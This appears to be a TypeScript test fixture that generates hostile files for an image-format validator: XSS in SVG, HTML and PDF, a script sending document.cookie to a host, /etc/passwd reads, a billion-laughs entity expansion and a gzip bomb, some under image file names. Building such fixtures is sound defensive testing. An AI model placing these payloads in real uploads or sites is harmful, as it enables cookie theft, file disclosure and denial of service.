import { gzipSync } from 'node:zlib';
import sharp from 'sharp';
import type { HostileImage } from './hostile-image.js';

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">
  <script>fetch('http://127.0.0.1/' + document.cookie)</script>
  <image href="file:///etc/passwd"/></svg>`;
/** Each entity is ten of the next: 10^9 characters, if anything expands them. */
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE svg [${Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY a${index} "${index === 8 ? 'ha' : `&a${index + 1};`.repeat(10)}">`,
).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&a0;</text></svg>`;

/** Files of other formats, some under the name of one that is read. */
export async function hostileOthers(): Promise<HostileImage[]> {
  const picture = () => sharp({ create: { width: 16, height: 16, channels: 3, background: '#123' } });
  const frames = sharp(Buffer.alloc(3 * 16 * 16), { raw: { width: 16, height: 16, channels: 3, pageHeight: 8 } });
  const files: Readonly<Record<string, string | Uint8Array>> = {
    'script.svg': SVG,
    'script.png': SVG,
    'laughs.svg': LAUGHS,
    'page.html': '<!DOCTYPE html><script>alert(1)</script>',
    'page.jpg': '\ufeff<html><img src=x onerror=alert(1)></html>',
    'picture.gif': await picture().gif().toBuffer(),
    'animated.gif': await frames.gif({ delay: [50, 50] }).toBuffer(),
    'picture.tif': await picture().tiff().toBuffer(),
    'picture.avif': await picture().avif().toBuffer(),
    'paper.pdf': '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
    'paper.ps': '%!PS-Adobe-3.0\n(/etc/passwd) (r) file',
    'bomb.gz': gzipSync(Buffer.alloc(10_000_000)),
    'archive.zip': 'PK\x03\x04\x14\0\0\0',
    'icon.ico': '\0\0\x01\0\x01\0\x10\x10',
    'text.png': 'this is a text',
    'one-byte.png': '\x89',
    'zeros.bmp': new Uint8Array(4096),
    'sound.webp': 'RIFF\x24\0\0\0WAVEfmt ',
  };
  return Object.entries(files).map(([name, content]) => {
    const bytes = typeof content === 'string' ? Buffer.from(content, name === 'page.jpg' ? 'utf8' : 'latin1') : content;
    return { name, bytes, code: 'image-format' };
  });
}
